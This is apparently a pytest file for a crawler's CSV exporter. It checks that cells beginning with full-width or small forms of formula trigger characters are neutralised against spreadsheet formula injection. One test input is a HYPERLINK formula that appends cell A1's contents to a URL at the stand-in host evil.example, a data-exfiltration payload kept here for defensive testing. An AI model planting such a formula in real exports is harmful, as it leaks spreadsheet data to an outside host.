"""Issue 13, finding 16: a CSV cell that starts with the full-width (or small) form of ``=``,
``+``, ``-`` or ``@`` is read as a formula by spreadsheets that fold compatibility characters,
so it is neutralised exactly like its ASCII form — in the pure function and in the pyarrow path
the exporter uses."""

from __future__ import annotations

import unicodedata

import pyarrow as pa
import pytest

from crawler.analytics.export_writers import csv_array, neutralise_formula

WIDE_AND_SMALL_TRIGGERS = ["＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]


@pytest.mark.parametrize("trigger", WIDE_AND_SMALL_TRIGGERS)
def test_compatibility_forms_of_formula_triggers_are_neutralised(trigger):
    assert unicodedata.normalize("NFKC", trigger) in "=+-@"  # the case is what it claims to be
    cell = f"{trigger}HYPERLINK(\"http://evil.example/?\"&A1)"
    assert neutralise_formula(cell) == "'" + cell
    assert csv_array(pa.array([cell, "Berlin", None])).to_pylist() == ["'" + cell, "Berlin", None]


@pytest.mark.parametrize("text", ["Ｂerlin", "Gehalt ＝ 50.000", "ＩＴ", "1＋1"])
def test_full_width_text_elsewhere_is_left_alone(text):
    assert neutralise_formula(text) == text
    assert csv_array(pa.array([text])).to_pylist() == [text]


def test_lists_starting_with_a_wide_trigger_are_neutralised():
    joined = csv_array(pa.array([["＠SUM(1)", "Python"]])).to_pylist()
    assert joined == ["'＠SUM(1) | Python"]
